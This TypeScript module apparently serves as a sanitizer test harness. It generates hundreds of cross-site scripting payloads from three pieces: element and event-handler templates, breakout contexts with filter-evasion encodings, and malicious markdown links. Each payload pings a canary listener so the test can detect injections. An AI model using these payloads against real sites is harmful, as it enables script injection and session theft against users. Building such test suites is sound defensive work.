/** What a vector would call when it ran: a dialog, a global, and a listener of ours. */
const code = (canary: string, id: number) => `window.pwned=1;alert(${id});fetch('${canary}/${id}')`;

/** Every element carries `data-vector`, so that one that became part of a page is found there even when it did nothing. */
const elements: ((run: string, url: string) => string)[] = [
  (run) => `<script data-vector>${run}</script>`,
  (run) => `<img data-vector src=x onerror="${run}">`,
  (run) => `<svg data-vector onload="${run}"></svg>`,
  (run) => `<svg data-vector><script>${run}</script></svg>`,
  (run) => `<svg><animate data-vector onbegin="${run}" attributeName=x dur=1s></animate></svg>`,
  (run) => `<iframe data-vector srcdoc="<script>parent.eval(&quot;${run}&quot;)</script>"></iframe>`,
  (run) => `<iframe data-vector src="javascript:${run}"></iframe>`,
  (run) => `<body data-vector onload="${run}">`,
  (run) => `<input data-vector autofocus onfocus="${run}">`,
  (run) => `<details data-vector open ontoggle="${run}"></details>`,
  (run) => `<video data-vector><source onerror="${run}"></video>`,
  (run) => `<audio data-vector src=x onerror="${run}"></audio>`,
  (run) => `<object data-vector data="javascript:${run}"></object>`,
  (run) => `<a data-vector href="javascript:${run}">press</a>`,
  (run) => `<form data-vector><button formaction="javascript:${run}">press</button></form>`,
  (run) => `<math data-vector><a xlink:href="javascript:${run}">press</a></math>`,
  (run) => `<div data-vector style="animation:x 1s" onanimationstart="${run}"></div>`,
  (_, url) => `<link data-vector rel=stylesheet href="${url}">`,
  (_, url) => `<img data-vector src="${url}">`,
  (_, url) => `<meta data-vector http-equiv=refresh content="0;url=${url}">`,
  (_, url) => `<style data-vector>@import '${url}';</style>`,
  (_, url) => `<base data-vector href="${url}">`,
  (_, url) => `<div data-vector style="background:url(${url})">x</div>`,
  (run) => `<template data-vector shadowrootmode="open"><img src=x onerror="${run}"></template>`,
];

/** What the text may stand in where it breaks out. */
const contexts = ["", '">', "'>", "</textarea>", "</title></style>", "</script>", "-->", "]]>", "`}</template>"];

/** Ways to slip past a filter that looks for the plain form. */
const encodings: ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.replaceAll(/<\/?(\w+)/g, (tag) => tag.toUpperCase()),
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (markup) => markup.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (markup) => markup.replaceAll(" ", "/"),
];

/** What a reader of markdown may be talked into. */
const links: ((run: string, url: string) => string)[] = [
  (run) => `[press](javascript:${encodeURIComponent(run)})`,
  (run) => `[press](JaVaScRiPt:${encodeURIComponent(run)})`,
  (run) => `[press](java\tscript:${encodeURIComponent(run)})`,
  (run) => `[press](&#106;avascript:${encodeURIComponent(run)})`,
  (run) => `[press](vbscript:${encodeURIComponent(run)})`,
  (run) => `[press](data:text/html,<script>${encodeURIComponent(run)}</script>)`,
  (run) => `<javascript:${encodeURIComponent(run)}>`,
  (_, url) => `![picture](${url}.png)`,
  (run) => `[<img data-vector src=x onerror="${run}">](https://shop.example)`,
  (run) => `[press](https://shop.example"onmouseover="${encodeURIComponent(run)}"data-vector="x)`,
  (run) => `**<img data-vector src=x onerror="${run}">**`,
  (run) => `- <svg data-vector onload="${run}">\n- _</li><img data-vector src=x onerror="${run}">_`,
];

/** Every element in every context and encoding, and every link. `canary` is the address of a listener that must never be called. */
export function xssVectors(canary: string): string[] {
  const makers = [
    ...links,
    ...encodings.flatMap((encode) =>
      contexts.flatMap((before) => elements.map((make) => (run: string, url: string) => encode(before + make(run, url)))),
    ),
  ];
  return makers.map((make, id) => make(code(canary, id), `${canary}/${id}`));
}
